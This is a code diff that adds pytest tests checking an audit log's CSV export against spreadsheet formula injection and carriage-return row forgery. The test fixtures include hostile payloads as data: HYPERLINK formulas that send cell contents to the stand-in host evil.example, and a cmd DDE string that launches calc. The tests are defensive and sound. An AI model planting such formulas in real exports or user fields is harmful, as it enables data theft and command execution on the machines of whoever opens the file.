@@ -18,6 +18,7 @@ import sqlalchemy as sa
 from storage.audit import AuditEntry, AuditLog
 from storage.cli import add_commands, main
 from storage.db import Database
+from tests.app_fixtures import Harness
 
 PROJECT_ROOT = Path(__file__).resolve().parent.parent
 T0 = datetime(2024, 5, 1, 12, 0, tzinfo=UTC)
@@ -165,3 +166,64 @@ def test_python_dash_m_verify_exit_codes(sqlite_database: Database) -> None:
     broken = verify()
     assert broken.returncode == 1
     assert broken.stdout == "audit chain BROKEN at row 3: prev_hash does not match row 1 (deleted or reordered?)\n"
+
+
+# ---- CSV formula injection (OWASP) ------------------------------------------------------------------------
+HOSTILE = {
+    '=HYPERLINK("https://evil.example/?"&A1,"open")': '\'=HYPERLINK("https://evil.example/?"&A1,"open")',
+    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
+    "-2+3": "'-2+3",
+    "@SUM(A1:A9)": "'@SUM(A1:A9)",
+    "\t=1+1": "'\t=1+1",
+    "\r=1+1": "'\r=1+1",
+    "'=already quoted": "''=already quoted",  # so dropping one leading ' always gives the stored value back
+    "plain-name": "plain-name",
+}
+
+
+def test_csv_export_neutralises_formulas_and_jsonl_stays_exact(
+    capsys: pytest.CaptureFixture[str], audit_log: AuditLog
+) -> None:
+    for name in HOSTILE:
+        audit_log.append(
+            AuditEntry(action="list", outcome="ok", actor_id="U0EVIL", actor_name=name, channel_id="@C0OPS")
+        )
+
+    code, out, _ = run(capsys, audit_log.db.url, "audit", "export", "--format", "csv")
+    assert code == 0
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert [r["actor_name"] for r in rows] == list(HOSTILE.values())
+    assert {r["channel_id"] for r in rows} == {"'@C0OPS"}  # every text column, not just names
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+        assert row["id"].isdigit() and row["details"] == "{}"
+
+    code, out, _ = run(capsys, audit_log.db.url, "audit", "export", "--format", "jsonl")
+    assert code == 0
+    assert [json.loads(line)["actor_name"] for line in out.splitlines()] == list(HOSTILE)
+
+
+def test_a_slack_display_name_formula_is_inert_in_the_csv(capsys: pytest.CaptureFixture[str], harness: Harness) -> None:
+    """End to end: a user whose Slack name is a formula runs a command; the auditor's CSV shows it as text."""
+    evil = '=HYPERLINK("https://evil.example/steal?d="&B2,"Click for details")'
+    response = harness.driver.command("list", user_id="U0EVIL", user_name=evil, channel_id="C0OPS")
+    assert response.status == 200
+    harness.settle()
+
+    code, out, _ = run(capsys, harness.bot.settings.database_url, "audit", "export", "--format", "csv")
+    assert code == 0
+    names = [row["actor_name"] for row in csv.DictReader(io.StringIO(out)) if row["actor_id"] == "U0EVIL"]
+    assert names and all(name == "'" + evil for name in names)
+
+
+def test_a_carriage_return_inside_a_cell_stays_in_its_cell(
+    capsys: pytest.CaptureFixture[str], audit_log: AuditLog
+) -> None:
+    forged = "alice\rrestore.approved by U0BOSS"  # no comma or quote, so nothing else would make it quoted
+    audit_log.append(AuditEntry(action="list", outcome="ok", actor_id="U0EVIL", actor_name=forged))
+    code, out, _ = run(capsys, audit_log.db.url, "audit", "export", "--format", "csv")
+    assert code == 0
+    # As a spreadsheet reads it: a bare CR is a line break too.
+    rows = list(csv.reader(io.StringIO(out, newline="")))
+    assert len(rows) == 2 and rows[1][5] == forged
